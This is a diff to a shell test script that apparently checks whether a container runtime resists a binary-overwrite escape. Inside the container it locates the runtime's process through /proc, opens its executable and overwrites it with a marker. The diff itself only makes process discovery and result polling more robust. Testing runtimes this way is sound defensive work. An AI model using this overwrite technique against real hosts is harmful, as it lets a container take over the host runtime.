@@ -42,7 +42,13 @@ attack() { # ID -> prints what the attacker saw
         # Detached, so no runtime process is left running the binary (as
         # after "docker exec" returns).
         "$GB_RUNTIME" --root "$RT_ROOT" exec --detach "$id" sh -c '
-                for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = exe ] && P=${p#/proc/}; done
+                # The runtime exec above is started in the background: under
+                # load it may not be running yet, so look for it a while.
+                for try in $(seq 100); do
+                        for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = exe ] && P=${p#/proc/}; done
+                        [ -n "$P" ] && break
+                        sleep 0.05
+                done
                 [ -n "$P" ] || { echo "no-runtime-process"; echo done; exit 0; }
                 exec 3</proc/$P/exe || { echo "open-exe-failed"; echo done; exit 0; }
                 echo "magic=$(head -c 4 /proc/self/fd/3 | od -An -c | tr -d " ")"
@@ -50,7 +56,7 @@ attack() { # ID -> prints what the attacker saw
                 while [ -e /proc/$P/exe ]; do sleep 0.05; done
                 echo PWNED >/proc/self/fd/3 && echo "overwrote-runtime"
                 echo done' >"$B/rootfs/tmp/result" 2>&1 || true
-        for i in $(seq 100); do grep -q '^done' "$B/rootfs/tmp/result" 2>/dev/null && break; sleep 0.05; done
+        for i in $(seq 400); do grep -q '^done' "$B/rootfs/tmp/result" 2>/dev/null && break; sleep 0.05; done
         cat "$B/rootfs/tmp/result"
 }
 
